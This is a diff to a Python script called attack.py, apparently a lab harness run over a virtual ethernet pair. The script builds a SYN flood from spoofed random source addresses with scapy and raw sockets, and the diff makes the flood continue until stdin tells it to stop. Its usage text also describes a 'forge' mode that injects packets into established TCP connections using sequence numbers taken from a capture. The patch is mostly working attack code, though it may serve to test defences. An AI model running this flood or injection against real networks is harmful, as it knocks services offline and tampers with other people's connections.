@@ -5,9 +5,10 @@ veth end the sender's af_packet port also uses). Needs Debian's python3-scapy.
 
 usage:
   attack.py flood IFACE DST_MAC DST_IP DPORT COUNT SEED
-      COUNT SYNs from random sources (half on DST_IP's /24, half anywhere),
-      random ports and sequence numbers, never answered: a half-open flood.
-      Prints "sent N" every 10000 and "done N SECONDS" at the end.
+      SYNs from random sources (half on DST_IP's /24, half anywhere), random
+      ports and sequence numbers, never answered: a half-open flood. At least
+      COUNT, and on until a line (or EOF) on stdin. Prints "sent N" every
+      10000 and "done N SECONDS" at the end.
   attack.py forge IFACE DST_MAC DST_IP DPORT PCAP
       PCAP is a capture of IFACE from the transfer's start, stopped while the
       transfer is idle. For one established connection per attack it reads
@@ -24,6 +25,7 @@ sequence numbers; checksums updated as RFC 1624 says), because scapy takes
 """
 import json
 import random
+import select
 import socket
 import struct
 import sys
@@ -61,7 +63,8 @@ def flood(iface, dst_mac, dst_ip, dport, count, seed):
     s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 22)
     old_src, old_ports_seq = bytes(4), bytes(8)  # template: src 0.0.0.0, sport 0, seq 0
     t0 = time.monotonic()
-    for i in range(count):
+    i = 0
+    while True:
         if i % 2:
             src = subnet + bytes([rng.randrange(3, 255)])
         else:
@@ -83,7 +86,11 @@ def flood(iface, dst_mac, dst_ip, dport, count, seed):
                     raise
         if (i + 1) % 10000 == 0:
             print(f"sent {i + 1}", flush=True)
-    print(f"done {count} {time.monotonic() - t0:.2f}", flush=True)
+        # At least COUNT; then on until stdin says "stop" (or ends).
+        if i + 1 >= count and (i + 1) % 1000 == 0 and select.select([sys.stdin], [], [], 0)[0]:
+            break
+        i += 1
+    print(f"done {i + 1} {time.monotonic() - t0:.2f}", flush=True)
 
 
 def later(a, b):
